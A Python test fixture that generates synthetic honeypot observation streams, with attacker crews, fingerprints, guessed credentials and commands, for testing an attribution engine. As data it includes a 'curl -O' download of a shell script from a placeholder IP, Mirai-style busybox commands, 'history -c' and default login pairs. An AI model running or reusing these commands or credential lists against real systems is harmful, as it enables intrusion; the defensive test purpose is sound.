# SPDX-License-Identifier: Apache-2.0
"""Made-up streams of observations for the tests of the engine: crews with habits, crowds without.

A third of the observations come twice: first half seen, some of them misread, so that links must be
taken back.
"""
import hashlib
import random
import uuid

# The last but one and the one before are made to be cut, and no part of the mixture.
KINDS = ("crowd", "swarm", "travellers", "lists", "partners", "one_tool", "kits", "new_tools", "patient", "liars",
         "toolbox", "chameleon", "mixture")
BANNERS = ["SSH-2.0-" + x for x in ("Go", "libssh2_1.9", "paramiko_3.1", "OpenSSH_9.0", "PuTTY", "JSCH", "AsyncSSH", "ZGrab")]
COMMON = [(u, p) for u in ("root", "admin", "pi", "user") for p in ("root", "admin", "1234", "", "toor", "pass", "qwerty")]
EVERYBODYS = ["uname -a", "id", "whoami", "cat /proc/cpuinfo", "ls -la", "free -m", "nproc", "history -c"]


def tag(*parts):
    return hashlib.sha256("/".join(map(str, parts)).encode()).hexdigest()


class Maker:
    def __init__(self, kind, size, seed):
        self.dice, self.kind, self.size = random.Random(f"{kind} {size} {seed}"), kind, size
        self.rows, self.crews = [], 0

    def often(self, share):
        return self.dice.random() < share

    def crew(self):
        self.crews += 1
        return f"{self.kind}-{self.crews}-{self.dice.getrandbits(32):x}"

    def public_ssh(self):
        i = min(int(self.dice.expovariate(.6)), len(BANNERS) - 1)
        return {"hassh": tag("hassh", i)[:32], "banner": BANNERS[i]}

    def public_tls(self):
        i = min(int(self.dice.expovariate(.5)), 9)
        return {"ja3": tag("ja3", i)[:32], "ja4": "t13d" + tag("ja4", i)[:16]}

    def own_ssh(self, name):
        return {"hassh": tag("hassh of", name)[:32], "banner": self.dice.choice(BANNERS)}

    def own_tls(self, name):
        return {"ja3": tag("ja3 of", name)[:32], "ja4": "t13d" + tag("ja4 of", name)[:16] if self.often(.8) else None}

    def words(self, name, tries=10):
        own = [("root", tag("word", name, i)[:7]) for i in range(12)]
        some = self.dice.sample(own, self.dice.randint(1, 5)) + self.dice.sample(COMMON, self.dice.randint(2, tries))
        return [list(x) for x in some]

    def common_words(self):
        return [list(x) for x in self.dice.sample(COMMON, self.dice.randint(2, 14))]

    def script(self, name):
        work = [f"cd /tmp; curl -O http://203.0.113.9/{tag('drop', name)[:8]}.sh", f"chmod 755 .{tag('file', name)[:5]}"]
        return {"discovery": self.dice.sample(EVERYBODYS, 3), "execution": work[:self.dice.randint(1, 2)]}

    def typing(self, name):
        value = int(tag("typist", name)[:16], 16)
        for _ in range(self.dice.randint(0, 4)):
            value ^= 1 << self.dice.randrange(64)
        return f"{value:016x}"

    def add(self, **seen):
        row = {"id": str(uuid.UUID(int=self.dice.getrandbits(128), version=4)), "rev": 0,
               "ts": 1780000000 + 37 * len(self.rows) + self.dice.randrange(4000), "ip": None, "ja3": None, "ja4": None,
               "hassh": None, "banner": None, "payloads": [], "c2": [], "creds": [], "cmds": {}, "kd": None}
        row.update(seen)
        row["last"] = row["ts"] + self.dice.randrange(3600)
        row["ip"] = ".".join(str(self.dice.randint(1, 223)) for _ in range(4))
        self.rows.append(row)

    def crowd(self):
        for _ in range(20):
            seen = self.public_ssh() if self.often(.6) else {}
            if self.often(.3):
                seen.update(self.public_tls())
            if self.often(.5):
                seen["creds"] = self.common_words()
            if self.often(.2):
                seen["cmds"] = {"discovery": self.dice.sample(EVERYBODYS, 2)}
            self.add(**seen)

    def swarm(self):
        name = self.crew()
        stack = self.own_ssh(name) if self.often(.5) else self.public_ssh()
        for _ in range(self.dice.randint(10, 90)):
            seen = dict(stack, creds=self.words(name))
            if self.often(.4):
                seen.update(cmds=self.script(name), payloads=[tag("load", name, self.dice.randrange(3))],
                            c2=[f"{tag('c2', name)[:8]}.example:443"])
            self.add(**seen)

    def travellers(self):
        name = self.crew()
        tls, ssh, human = self.own_tls(name), self.own_ssh(name) if self.often(.6) else self.public_ssh(), self.often(.5)
        for _ in range(self.dice.randint(3, 20)):
            seen = dict(tls) if self.often(.7) else {}
            if self.often(.7):
                seen.update(ssh)
            if self.often(.5):
                seen["creds"] = self.words(name)
            if human and self.often(.6):
                seen["kd"] = self.typing(name)
            self.add(**seen)

    def lists(self):
        for _ in range(8):
            name = self.crew()
            stack = self.own_ssh(name) if self.often(.5) else self.public_ssh()
            for _ in range(self.dice.choice((1, 1, 2, 4))):
                self.add(creds=[list(x) for x in COMMON[:self.dice.choice((8, 16, 24))]], **stack)

    def partners(self):
        shared = self.crew()
        for _ in range(self.dice.randint(2, 4)):
            name = self.crew()
            stack = dict(self.own_tls(name), **(self.own_ssh(name) if self.often(.7) else self.public_ssh()))
            for _ in range(self.dice.randint(1, 6)):
                seen = dict(stack) if self.often(.9) else {}
                seen["c2"] = [f"{tag('c2', shared)[:8]}.example:80"]
                if self.often(.6):
                    seen["payloads"] = [tag("load", shared, self.dice.randrange(2))]
                if self.often(.5):
                    seen.update(kd=self.typing(name), cmds=self.script(name))
                self.add(**seen)

    def one_tool(self):
        stack = dict(self.public_ssh(), **self.public_tls())
        for _ in range(15):
            name = self.crew()
            for _ in range(self.dice.choice((1, 1, 2, 3))):
                seen = dict(stack, creds=self.words(name) if self.often(.5) else self.common_words())
                if self.often(.3):
                    seen["c2"] = [f"{tag('c2', name)[:8]}.example:80"]
                self.add(**seen)

    def kits(self):
        for _ in range(5):
            name = self.crew()
            for _ in range(self.dice.randint(1, 12)):
                self.add(creds=self.common_words(), c2=[f"{tag('c2', name)[:8]}.example:23"],
                         payloads=[tag("public load", self.dice.randrange(4)) if self.often(.5) else tag("load", name)],
                         cmds={"execution": ["enable", "sh", "/bin/busybox ECCHI"]})

    def new_tools(self):
        name, size = self.crew(), self.dice.randint(6, 20)
        for i in range(size):
            half = "ab"[i > size // 2]
            seen = dict(self.own_tls(name + half), **self.own_ssh(name + half))
            seen["creds"] = self.words(name)
            if self.often(.6):
                seen.update(cmds=self.script(name), kd=self.typing(name))
            self.add(**seen)

    def toolbox(self):
        """Many jobs, each begun with the same tools and ended with its own: groups around one."""
        name = self.crew()
        for job in range(self.dice.randint(4, 12)):
            job = f"{name}-{job}"
            for _ in range(self.dice.randint(6, 20)):
                tools = name if self.often(.5) else job
                seen = dict(self.own_tls(tools), **self.own_ssh(tools)) if self.often(.95) else {}
                self.add(**seen, creds=self.words(job), cmds=self.script(job), kd=self.typing(name),
                         c2=[f"{tag('c2', name)[:8]}.example:443"], payloads=[tag("load", job)])

    def chameleon(self):
        """Two SSH stacks, and one of many TLS ones each time."""
        name = self.crew()
        for _ in range(self.dice.randint(100, 200)):
            seen = self.own_ssh(name + self.dice.choice("ab"))
            if self.often(.6):
                seen.update(self.own_tls(f"{name}-{self.dice.randrange(40)}"))
            self.add(**seen, creds=self.words(name), cmds=self.script(name), kd=self.typing(name),
                     c2=[f"{tag('c2', name)[:8]}.example:443"], payloads=[tag("load", name)])

    def patient(self):
        name = self.crew()
        for _ in range(self.dice.randint(2, 7)):
            seen = self.own_ssh(name) if self.often(.8) else {}
            if self.often(.7) or not seen:
                seen.update(self.own_tls(name))
            if self.often(.5):
                seen["c2"] = [f"{tag('c2', name)[:8]}.example:443"]
            self.add(**seen)

    def liars(self):
        a, b = self.crew(), self.crew()
        for name in (a, b):
            for _ in range(self.dice.randint(4, 14)):
                seen = dict(self.own_tls(name), **self.own_ssh(name)) if self.often(.7) else self.own_ssh(name)
                if self.often(.5):
                    seen.update(payloads=[tag("load", name)], c2=[f"{tag('c2', name)[:8]}.example:443"])
                if self.often(.6):
                    seen["creds"] = self.words(name)
                self.add(**seen)
        self.add(**dict(self.own_tls(a), **self.own_ssh(b)), creds=self.words(self.crew()))
        self.add(payloads=[tag("load", a)], c2=[f"{tag('c2', b)[:8]}.example:443"])

    def mixture(self):
        getattr(self, self.dice.choice(KINDS[:-3] + ("crowd", "crowd", "swarm")))()

    def made(self):
        while len(self.rows) < self.size:
            getattr(self, self.kind)()
        return self.rows[:self.size]


def stream(kind, size, seed, twice=.3):
    """Lines in order of arrival: observations, some of them revised later."""
    maker = Maker(kind, size, seed)
    rows, lines = maker.made(), []
    for row in rows:
        if not maker.often(twice):
            lines.append((row["ts"], row))
            continue
        first = dict(row, creds=row["creds"][:1], payloads=[], c2=[], kd=None)
        if maker.often(.3):
            other = maker.dice.choice(rows)
            first.update({k: other[k] for k in ("ja3", "ja4", "hassh", "banner")})
        lines.append((row["ts"], first))
        lines.append((row["ts"] + maker.dice.randint(60, 40000), dict(row, rev=1)))
    lines.sort(key=lambda x: (x[0], x[1]["id"], x[1]["rev"]))
    return [row for _, row in lines]


def shuffled(lines, seed):
    """The same in another order; revisions of one observation stay in theirs."""
    order = list(lines)
    random.Random(f"order {seed}").shuffle(order)
    later = {}
    for row in sorted(order, key=lambda r: r["rev"]):
        later.setdefault(row["id"], []).append(row)
    return [later[row["id"]].pop(0) for row in order]
